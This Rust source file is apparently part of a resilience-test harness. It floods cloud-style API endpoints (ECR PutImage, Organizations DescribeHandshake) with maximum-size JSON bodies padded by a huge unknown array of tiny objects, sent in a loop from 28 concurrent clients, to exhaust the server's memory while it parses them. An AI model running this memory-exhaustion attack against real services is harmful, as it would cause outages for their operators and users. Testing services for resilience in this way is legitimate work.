//! JSON bodies with an unknown member that contains many small objects: a parsed tree would use a hundred times the
//! received bytes. PutImage gets bodies of its maximum size, Organizations of the maximum size for other calls.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::attack::Scale;
use super::content::MIB;
use super::outcome::Check;
use super::sign::Service;
use super::site::{ABUSED, Site};

const PUT_IMAGE_BYTES: usize = 29 * MIB;
const OTHER_BYTES: usize = MIB - 1024;
/// The number of concurrent calls.
const PUT_IMAGES: usize = 4;
const OTHERS: usize = 24;
/// The pause between two calls of a client: the attack is on memory, not on the processors.
const PAUSE: Duration = Duration::from_millis(500);

/// Sends them repeatedly for a while.
pub(super) async fn run(site: Arc<Site>, scale: Scale) -> Result<Vec<Check>> {
    let head = format!(r#""repositoryName":"{ABUSED}","imageManifest":"{{}}""#);
    let large = body(&head, r#"{"a":1,"b":[],"c":{},"d":""}"#, PUT_IMAGE_BYTES);
    let small = body(r#""HandshakeId":"h-1""#, "{}", OTHER_BYTES);
    let mut calls = JoinSet::new();
    for _ in 0..PUT_IMAGES {
        calls.spawn(repeat(Arc::clone(&site), Service::Ecr, "PutImage", large.clone()));
    }
    for _ in 0..OTHERS {
        calls.spawn(repeat(Arc::clone(&site), Service::Organizations, "DescribeHandshake", small.clone()));
    }
    // They end only with the time limit.
    let _ = timeout(scale.hold(), calls.join_all()).await;
    Ok(Vec::new())
}

async fn repeat(site: Arc<Site>, service: Service, operation: &'static str, body: Bytes) -> Result<()> {
    let mut client = site.attacker();
    loop {
        let request = site.powerless.key.json(&site.host, service, operation, body.clone())?;
        // The answer does not matter, only its cost.
        let _ = client.ask(request).await;
        sleep(PAUSE).await;
    }
}

/// An object with the members of `head` and one more: an array of `item`, as long as the size allows.
fn body(head: &str, item: &str, size: usize) -> Bytes {
    let count = size.saturating_sub(head.len() + 16) / (item.len() + 1);
    let items = vec![item; count].join(",");
    format!(r#"{{{head},"unknown":[{items}]}}"#).into()
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_body_is_json_of_about_the_right_size() {
        let body = super::body(r#""a":"b""#, "{}", 1000);
        assert!(serde_json::from_slice::<serde_json::Value>(&body).is_ok());
        assert!((900..1000).contains(&body.len()), "{}", body.len());
    }
}
